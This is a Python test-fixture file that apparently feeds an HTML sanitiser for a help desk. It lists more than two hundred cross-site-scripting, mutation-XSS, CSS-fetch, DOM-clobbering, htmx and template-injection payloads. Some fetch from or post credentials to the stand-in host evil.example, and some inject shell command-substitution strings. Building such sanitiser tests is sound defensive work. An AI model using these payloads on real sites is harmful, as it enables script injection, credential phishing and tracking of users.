"""More than two hundred attempts to act through somebody else's words, written for this desk (S1).

Each one, where it works, sets `window.pwned`, requests something from `http://evil.example`, or lays itself over the
page. They are grouped by the idea behind them; `BODIES` are for HTML, `WORDS` fit a subject, a name or a file name.
"""

RUN = "window.pwned=1"
EVIL = "http://evil.example"

# Elements that run, in every spelling a lenient parser forgives.
SCRIPTS = [
    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script\t>{RUN}</script >", f"<script/x>{RUN}</script>",
    f"<script\n>{RUN}</script\n>", f"<script src={EVIL}/s1.js></script>", "<script src=//evil.example/s2.js></script>",
    "<script src='\\\\evil.example\\s3.js'></script>", f"<script type=module>import '{EVIL}/s4.js'</script>",
    f"<script type=importmap>{{\"imports\":{{\"x\":\"{EVIL}/s5.js\"}}}}</script>", f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<script>{RUN}", f"<script>{RUN}</script", f"</p><script>{RUN}</script><p>",
    f"<!--[if true]><script>{RUN}</script><![endif]-->", f"<!--><script>{RUN}</script>-->", f"<!--!><script>{RUN}</script>",
    f"<![CDATA[<script>{RUN}</script>]]>", f"<?xml version='1.0'?><script>{RUN}</script>", f"<%<script>{RUN}</script>%>",
    f"\x00<script>{RUN}</script>", f"<scr\x00ipt>{RUN}</scr\x00ipt>", f"<noscript><script>{RUN}</script></noscript>",
    f"<template><script>{RUN}</script></template>", f"<xmp><script>{RUN}</script></xmp>", f"<plaintext><script>{RUN}</script>",
    f"<listing>&lt;script&gt;{RUN}&lt;/script&gt;</listing>", f"\ufeff<script>{RUN}</script>", f"\u202e<script>{RUN}</script>",
    f"<script nonce=guessed>{RUN}</script>", "<script src='/desk/tickets/1/files/1'></script>",
    f"<script src=data:text/javascript,{RUN}></script>", "<script src='data:;base64,d2luZG93LnB3bmVkPTE='></script>",
]  # fmt: skip

# Handlers: on what loads, breaks, moves, is focused, opens or is seen.
HANDLERS = [
    f"<img src=x onerror={RUN}>", f"<img src=x onerror='{RUN}'>", f"<img src=x oNeRrOr=\"{RUN}\">", f"<img src=x onerror=\n{RUN}>",
    f"<img src=x/onerror={RUN}>", f"<img/src=x/onerror={RUN}>", f"<img src=`x` onerror=`{RUN}`>", f"<img src=x onerror&#61;{RUN}>",
    "<img src=x onerror=&#119;indow.pwned&#61;1>", f"<img src='data:image/png;base64,iVBORw0KGgo=' onload={RUN} onerror={RUN}>",
    f"<image src=x onerror={RUN}>", f"<img src=x \x0conerror={RUN}>", f"<img src=x \x0bonerror={RUN}>", f"<img src=x \x00onerror={RUN}>",
    f"<img \"\"\"><img src=x onerror={RUN}>\">", f"<img src=x onloadstart={RUN}>", f"<body onload={RUN}>", f"<body onpageshow={RUN}>",
    f"<body onhashchange={RUN}><a href=#x>x</a>", f"<body onscroll={RUN}><br style=margin:9999px>", f"<frameset onload={RUN}>",
    f"<iframe onload={RUN}></iframe>", f"<iframe src=about:blank onload={RUN}>", f"<svg onload={RUN}>", f"<svg/onload={RUN}//",
    f"<svg onload={RUN}><desc>x</desc></svg>", f"<input autofocus onfocus={RUN}>", f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<select autofocus onfocus={RUN}><option>x</select>", f"<button autofocus onfocus={RUN}>x</button>",
    f"<a href=# autofocus onfocus={RUN} tabindex=0>x</a>", f"<div contenteditable autofocus onfocus={RUN}>x</div>",
    f"<details open ontoggle={RUN}>x</details>", f"<video src=x onerror={RUN}></video>", f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>", f"<object data=x onerror={RUN}></object>", f"<embed src=x onload={RUN}>",
    f"<link rel=stylesheet href=x onerror={RUN}>", f"<style onload={RUN}></style>", f"<marquee onstart={RUN}>x</marquee>",
    f"<meter onmouseover={RUN}>x</meter>", f"<div onpointerover={RUN}>x</div>", f"<div style='animation:spin 1s' onanimationstart={RUN}>x</div>",
    f"<div style='transition:all 1s' ontransitionend={RUN}>x</div>", f"<div onbeforematch={RUN} hidden=until-found>x</div>",
    f"<dialog open onclose={RUN}>x</dialog>", f"<div popover id=x onbeforetoggle={RUN}>x</div><button popovertarget=x>x</button>",
    f"<form onformdata={RUN}><button>x</button></form>", f"<isindex type=image src=1 onerror={RUN}>", f"<keygen autofocus onfocus={RUN}>",
    f"<blink onmouseover={RUN}>x</blink>", f"<x onclick={RUN} tabindex=1>x</x>", f"<custom-tag onfocus={RUN} tabindex=0 autofocus>x</custom-tag>",
]  # fmt: skip

# Addresses that run when they are followed, loaded or sent to.
ADDRESSES = [
    f"<a href=javascript:{RUN}>x</a>", f"<a href=JaVaScRiPt:{RUN}>x</a>", f"<a href='java\tscript:{RUN}'>x</a>",
    f"<a href='java\nscript:{RUN}'>x</a>", f"<a href='java\rscript:{RUN}'>x</a>", f"<a href='java&#9;script:{RUN}'>x</a>",
    f"<a href='java&NewLine;script:{RUN}'>x</a>", f"<a href='java&Tab;script&colon;{RUN}'>x</a>", f"<a href='javascript&colon;{RUN}'>x</a>",
    f"<a href='&#106;&#97;&#118;ascript:{RUN}'>x</a>", f"<a href='&#x6A&#x61&#x76ascript:{RUN}'>x</a>",
    f"<a href='&#0000106avascript:{RUN}'>x</a>", f"<a href=' javascript:{RUN}'>x</a>", f"<a href='\x01javascript:{RUN}'>x</a>",
    f"<a href='\x1fjavascript:{RUN}'>x</a>", f"<a href='&#14; javascript:{RUN}'>x</a>", f"<a href='\u00a0javascript:{RUN}'>x</a>",
    f"<a href='javascript\x00:{RUN}'>x</a>", f"<a href='javascript://%0a{RUN}'>x</a>", f"<a href='javascript:/*x*/{RUN}'>x</a>",
    f"<a href='vbscript:{RUN}'>x</a>", f"<a href='VbScRiPt&colon;{RUN}'>x</a>", f"<a href='livescript:{RUN}'>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>", "<a href='data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg=='>x</a>",
    f"<a href='data:image/svg+xml,<svg onload={RUN}>'>x</a>", f"<a href='blob:{EVIL}/x'>x</a>", f"<a href='filesystem:{EVIL}/x'>x</a>",
    f"<a href='view-source:javascript:{RUN}'>x</a>", "<a href='file:///etc/passwd'>x</a>", f"<area href=javascript:{RUN}>",
    f"<map name=m><area shape=default href=javascript:{RUN}></map><img usemap=#m src=x>", f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe src='data:text/html,<script>{RUN}</script>'></iframe>", f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe srcdoc='&lt;img src=x onerror=parent.{RUN}&gt;'></iframe>", f"<object data=javascript:{RUN}></object>",
    f"<object data='data:text/html,<script>parent.{RUN}</script>'></object>", f"<embed src=javascript:{RUN}>", f"<img src=javascript:{RUN}>",
    f"<img dynsrc=javascript:{RUN} lowsrc=javascript:{RUN}>", f"<table background=javascript:{RUN}><tr><td background=javascript:{RUN}>x</table>",
    f"<form action=javascript:{RUN}><input type=submit autofocus></form>", f"<button form=x formaction=javascript:{RUN}>x</button>",
    f"<form id=x></form><input form=x type=image formaction=javascript:{RUN}>", f"<blockquote cite=javascript:{RUN}>x</blockquote>",
    f"<q cite=javascript:{RUN}>x</q>", f"<base href=javascript:{RUN}//><a href=x>x</a>", f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<meta http-equiv=refresh content='0;url=data:text/html,<script>{RUN}</script>'>", f"<link rel=import href=javascript:{RUN}>",
]  # fmt: skip

# SVG and MathML have rules of their own.
FOREIGN = [
    f"<svg><script>{RUN}</script></svg>", f"<svg><script href={EVIL}/f1.js></script></svg>", f"<svg><script xlink:href='data:,{RUN}'/></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>", f"<svg><set onbegin={RUN} attributeName=x></svg>",
    f"<svg><animate attributeName=href values=javascript:{RUN} /><a id=a><text y=9>x</text></a></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>", f"<svg><a><set attributeName=href to=javascript:{RUN} /></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'/></svg>", f"<svg><use xlink:href={EVIL}/f2.svg#x /></svg>",
    f"<svg><image href={EVIL}/f3.png onload={RUN} /></svg>", f"<svg><image xlink:href={EVIL}/f4.png /></svg>",
    f"<svg><feImage href={EVIL}/f5.png /></svg>", f"<svg><foreignObject><script>{RUN}</script></foreignObject></svg>",
    f"<svg><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src=javascript:parent.{RUN}></iframe></foreignObject></svg>",
    f"<svg><style>*{{background:url({EVIL}/f6)}}</style></svg>", f"<svg><rect fill='url({EVIL}/f7#x)' width=9 height=9 /></svg>",
    f"<svg><rect filter='url({EVIL}/f8#x)' mask='url({EVIL}/f9#x)' /></svg>", f"<svg><text><textPath href={EVIL}/f10#x>x</textPath></text></svg>",
    f"<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>{RUN}</handler></svg>", f"<svg><discard onbegin={RUN} /></svg>",
    f"<?xml-stylesheet href='{EVIL}/f11.css'?><svg></svg>", f"<math href=javascript:{RUN}>x</math>", f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    f"<math><mi xlink:href='data:x,<script>{RUN}</script>'>x</mi></math>", f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
]  # fmt: skip

# mXSS: harmless when it is read, harmful when it is written and read again.
MUTATIONS = [
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>", f"<svg><p><style><g title='</style><img src onerror={RUN}>'>",
    f"<math><p><style><!--</style><img src/onerror={RUN}>--></style></p></math>", f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg><title><style><img title='</style><img src=x onerror={RUN}>'></title></svg>", f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<textarea><p title='</textarea><img src=x onerror={RUN}>'>", f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    f"<iframe><p title='</iframe><img src=x onerror={RUN}>'>", f"<noembed><p title='</noembed><img src=x onerror={RUN}>'>",
    f"<noframes><p title='</noframes><img src=x onerror={RUN}>'>", f"<title><p title='</title><img src=x onerror={RUN}>'>",
    f"<style><p title='</style><img src=x onerror={RUN}>'>", f"<plaintext><p title='</plaintext><img src=x onerror={RUN}>'>",
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>", f"<select><style></select><img src=x onerror={RUN}></style>",
    f"<table><td><math><mtext><table><mglyph><style><math></style><img src onerror={RUN}></table>", f"<p title='&lt;img src=x onerror={RUN}&gt;'>x</p>",
    f"<p title='`><img src=x onerror={RUN}>'>x</p>", f"<a title='\"><img src=x onerror={RUN}>'>x</a>", f"<img alt='--><img src=x onerror={RUN}>' src=y>",
    f"<!-- --!><img src=x onerror={RUN}> -->", f"<!--<img src='--><img src=x onerror={RUN}>'>", f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<svg><![CDATA[</svg><img src=x onerror={RUN}>]]></svg>", f"<math><annotation-xml encoding='text/html'><xmp>&lt;/xmp&gt;&lt;img src onerror={RUN}&gt;</xmp></annotation-xml></math>",
    f"<h1><table><a href=x><h1></a><img src=x onerror={RUN}></h1></table></h1>", "<div>" * 300 + f"<img src=x onerror={RUN}>",
    f"<svg><desc><![CDATA[</desc><script>{RUN}</script>]]></desc></svg>", f"<br\u2028><img src=x onerror={RUN}>", f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;", f"<ruby><rt><template><img src=x onerror={RUN}></template></rt></ruby>",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>", f"<div is=x onfoo={RUN}><slot onslotchange={RUN}></slot></div>",
]  # fmt: skip

# What is fetched when a mail is merely looked at (P46.1).
FETCHES = [
    f"<img src={EVIL}/g1.png>", "<img src=//evil.example/g2.png>", f"<img srcset='{EVIL}/g3.png 1x, {EVIL}/g4.png 2x'>", f"<img src=x srcset={EVIL}/g5.png>",
    f"<picture><source srcset={EVIL}/g6.webp><img src=x></picture>", f"<img loading=lazy src={EVIL}/g7.png>", f"<img lowsrc={EVIL}/g8.png longdesc={EVIL}/g9>",
    f"<image src={EVIL}/g10.png>", f"<video src={EVIL}/g11.mp4 autoplay></video>", f"<video poster={EVIL}/g12.png></video>", f"<audio src={EVIL}/g13.mp3 autoplay></audio>",
    f"<video><source src={EVIL}/g14.mp4><track default src={EVIL}/g15.vtt></video>", f"<input type=image src={EVIL}/g16.png>", f"<object data={EVIL}/g17></object>",
    f"<embed src={EVIL}/g18>", f"<iframe src={EVIL}/g19></iframe>", f"<frameset><frame src={EVIL}/g20></frameset>", f"<applet code=x archive={EVIL}/g21.jar></applet>",
    f"<bgsound src={EVIL}/g22.wav>", f"<link rel=stylesheet href={EVIL}/g23.css>", f"<link rel=icon href={EVIL}/g24.ico>", f"<link rel=prefetch href={EVIL}/g25>",
    f"<link rel=preload as=image href={EVIL}/g26>", "<link rel=dns-prefetch href=//evil.example>", f"<link rel=preconnect href={EVIL}>",
    f"<link rel=prerender href={EVIL}/g27>", f"<link rel=modulepreload href={EVIL}/g28.js>", f"<link rel=manifest href={EVIL}/g29>",
    f"<script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"{EVIL}/g30\"]}}]}}</script>", f"<body background={EVIL}/g31.png>", f"<table background={EVIL}/g32.png><tr><td>x</table>",
    f"<table><tr><td background={EVIL}/g33.png>x</table>", f"<meta http-equiv=refresh content='0;url={EVIL}/g34'>", f"<meta http-equiv=Link content='<{EVIL}/g35>; rel=preload'>",
    "<meta http-equiv=Set-Cookie content='hauspost=x'>", f"<base href={EVIL}/><img src=g36.png>", f"<a href=# ping={EVIL}/g37>x</a>", f"<html manifest={EVIL}/g38>",
    f"<input list=l autofocus><datalist id=l><img src={EVIL}/g39></datalist>", f"<portal src={EVIL}/g40></portal>", f"<fencedframe src={EVIL}/g41></fencedframe>",
    f"<img attributionsrc={EVIL}/g42 src=x>", "<img src=cid:nowhere@evil.example>", "<img src='http:/\t/evil.example/g43'>", "<img src='ht\ntp://evil.example/g44'>",
    "<img src='&#104;ttp://evil.example/g45'>", "<img src='/\\evil.example/g46'>", "<img src='http:evil.example/g47'>", "<img src='ftp://evil.example/g48'>",
    f"<img src='x' crossorigin srcset='{EVIL}/g49 100w' sizes=100vw>", f"<xml src={EVIL}/g50></xml>", f"<v:imagedata src={EVIL}/g51.png></v:imagedata>", f"<!--[if gte mso 9]><v:fill src={EVIL}/g52.png><![endif]-->",
]  # fmt: skip

# Style sheets fetch, run (in old browsers), and cover the page.
STYLES = [
    f"<style>@import url({EVIL}/c1.css);</style>", f"<style>@import '{EVIL}/c2.css' screen;</style>", f"<style>*{{background:url({EVIL}/c3.png)}}</style>",
    f"<style>@font-face{{font-family:x;src:url({EVIL}/c4.woff)}}*{{font-family:x}}</style>", "<style>header,nav,.composer{display:none!important}</style>",
    "<style>body{display:none}</style>", f"<style>input[value^=a]{{background:url({EVIL}/c5)}}</style>", f"<p style='background:url({EVIL}/c6.png)'>x</p>",
    f"<p style='background-image:url(\"{EVIL}/c7.png\")'>x</p>", f"<p style='background:u\\72l({EVIL}/c8.png)'>x</p>", f"<p style='background:url(/**/{EVIL}/c9.png)'>x</p>",
    f"<p style='background:image-set(\"{EVIL}/c10.png\" 1x)'>x</p>", f"<p style='background:-webkit-image-set(url({EVIL}/c11.png) 1x)'>x</p>", f"<p style='list-style:url({EVIL}/c12.png)'>x</p>",
    f"<p style='list-style-image:url({EVIL}/c13.png);display:list-item'>x</p>", f"<p style='content:url({EVIL}/c14.png)'>x</p>", f"<p style='cursor:url({EVIL}/c15.cur),auto'>x</p>",
    f"<p style='border-image:url({EVIL}/c16.png) 1'>x</p>", f"<p style='filter:url({EVIL}/c17.svg#x)'>x</p>", f"<p style='mask:url({EVIL}/c18.svg)'>x</p>",
    f"<p style='clip-path:url({EVIL}/c19.svg#x)'>x</p>", f"<p style='shape-outside:url({EVIL}/c20.png);float:left'>x</p>", f"<p style='--x:url({EVIL}/c21.png);background:var(--x)'>x</p>",
    f"<p style='background:cross-fade(url({EVIL}/c22.png),url({EVIL}/c23.png),50%)'>x</p>", f"<p style='offset-path:url({EVIL}/c24.svg#x)'>x</p>", f"<p style='color:red;;@import {EVIL}/c25.css'>x</p>",
    f"<p style='width:expression({RUN})'>x</p>", f"<p style='width:exp/**/ression({RUN})'>x</p>", f"<p style='behavior:url({EVIL}/c26.htc)'>x</p>", f"<p style='-moz-binding:url({EVIL}/c27.xml#x)'>x</p>",
    "<div style='position:fixed;inset:0;z-index:2147483647;background:#fff'>Your session has ended. <a href='http://evil.example/sign-in'>Sign in</a></div>",
    "<div style='position:absolute;top:-9999px;left:-9999px;width:99999px;height:99999px;z-index:99999'>cover</div>", "<div style='position:sticky;top:0;z-index:999'>sticky</div>",
    "<div style='margin-top:-9999px'>pulled up</div>", "<div style='margin:-500px 0 0 -500px;padding:900px'>pulled about</div>", "<div style='transform:translate(-500px,-500px) scale(50)'>moved</div>",
    "<div style='translate:-500px -500px;scale:40'>moved</div>", "<div style='zoom:40'>zoomed</div>", "<div style='float:left;margin-left:-2000px;width:4000px;height:4000px'>wide</div>",
    "<div style='display:block;height:1000000px;width:1000000px'>huge</div>", "<div style='text-indent:-99999px'>gone</div>", "<div style='font-size:9000px;line-height:0'>giant</div>",
    "<div style='box-shadow:0 0 0 9999px #fff;outline:9999px solid #fff'>painted over</div>", "<div style='POSITION:FIXED;TOP:0;LEFT:0;WIDTH:100%;HEIGHT:100%'>capitals</div>", "<div style='pos\\69tion:fixed;inset:0'>escaped</div>",
    "<div style='anchor-name:--x;view-transition-name:x;container:x/size'>modern</div>", "<style>:root{--paper:#000;--ink:#000}</style>", "<style>@media all{*{visibility:hidden}}</style>",
    "<style>@layer x{*{pointer-events:none!important}}</style>", "<p style='pointer-events:none;user-select:none;opacity:0'>untouchable</p>", "<style></style><style>.rail{position:fixed;left:-999px}</style>",
]  # fmt: skip

# Names that take the place of the page's own, and attributes that our own scripts listen to.
CLOBBERING = [
    "<img name=body><img name=forms><img name=cookie>", "<form id=body><input name=cookie><input name=action></form>", "<a id=htmx href=//evil.example/>x</a>", "<form name=htmx><input name=config></form>",
    "<p id=composer>x</p><p id=record>x</p><p id=side>x</p>", "<p class='composer rail tabbar desk head btn danger'>x</p>", "<dialog open id=help class=help>x</dialog>",
    "<div hx-get=/desk/mine hx-trigger=load hx-target=body>x</div>", "<div data-hx-get=/desk/mine data-hx-trigger=load>x</div>", f"<div hx-on::load={RUN} hx-on:htmx:load={RUN}>x</div>",
    f"<div hx-vals='js:{{x:{RUN}}}' hx-trigger=load hx-post=/desk/menu>x</div>", f"<div hx-trigger='load[{RUN}]' hx-get=/>x</div>", "<meta name=htmx-config content='{\"allowEval\":true}'>",
    "<div hx-ext=x hx-ws=connect:ws://evil.example/ hx-sse=connect:http://evil.example/sse>x</div>", "<div data-key=r data-search data-live data-poll=http://evil.example/p tabindex=0>x</div>",
    "<form action=http://evil.example/post method=post><input name=password type=password><button autofocus>Sign in</button></form>", "<form action=/sign-out method=post><button>x</button></form>",
    "<form><input name=csrfmiddlewaretoken value=x></form>", "<form action=http://evil.example/dangling><textarea name=rest>", "<img src='http://evil.example/dangling?", "<a href='http://evil.example/dangling?\n",
    "<base target='\n", "<label for=send>x</label><button form=send type=submit>x</button>", "<a href=/sign-out target=_top>x</a>", "<a href=http://evil.example/ target=opener rel=opener>x</a>", "<map name=x><area coords=0,0,9999,9999 href=http://evil.example></map>",
    "</div></div></div></main></body></html><h1 id=outside>outside</h1>", "</section></article></details></ol></ul></td></tr></table><p id=outside2>outside</p>", "<div contenteditable>edit</div><div tabindex=1 accesskey=a autofocus>x</div>",
]  # fmt: skip

# Words that a template engine, a formatter or a terminal would take for its own; and words that turn around.
TEMPLATES = [
    "{{7*7}}", "{{ config }}{{ request.META }}", "{% debug %}", "{% include '/etc/passwd' %}", "{{''.__class__.__mro__}}", "%(x)s", "%s%s%s%n", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0.__class__}", "{person}",
    "$(touch /tmp/pwned)", "`touch /tmp/pwned`", "\u202egpj.exe", "\u2066invoice\u2069\u202etxt.js", "=HYPERLINK(\"http://evil.example\",\"x\")", "[[7*7]] {{constructor.constructor('window.pwned=1')()}}",
    f"[x](javascript:{RUN})", f"![x]({EVIL}/t1.png)", "<http://evil.example/t2>", f"http://evil.example/\"onmouseover={RUN}//", f"http://evil.example/'><script>{RUN}</script>", f"https://x.example/<img/src/onerror={RUN}>",
    f"javascript:{RUN}", f"mailto:x@x.example?subject=<script>{RUN}</script>", f"www.evil.example/\"><svg/onload={RUN}>",
]  # fmt: skip

BODIES: list[str] = [
    *SCRIPTS, *HANDLERS, *ADDRESSES, *FOREIGN, *MUTATIONS, *FETCHES, *STYLES, *CLOBBERING, *TEMPLATES,
]  # fmt: skip

# Those that break out of an attribute, a title, a text area or a script, wherever words are put.
BREAKING = [
    f"\"><script>{RUN}</script>", f"'><script>{RUN}</script>", f"</title><script>{RUN}</script>", f"</textarea><script>{RUN}</script>", f"</script><script>{RUN}</script>",
    f"\" onmouseover={RUN} x=\"", f"' onfocus={RUN} autofocus tabindex=0 x='", f"\"><img src=x onerror={RUN}>", f"--><script>{RUN}</script>", f"</option></select><img src=x onerror={RUN}>",
    f"\\\"-{RUN}-\\\"", f"';{RUN};//", f"</td></tr></table><svg onload={RUN}>", f"&#34;&gt;&#60;svg onload={RUN}&#62;", f"\u202e\"><svg/onload={RUN}>", f"<b><i><u>{'x' * 20}", "</a></h1></header></nav></div>",
]  # fmt: skip

WORDS: list[str] = [
    *BREAKING,
    *(one for one in BODIES if len(one) < 120 and one.isprintable() and not one.isspace()),
]
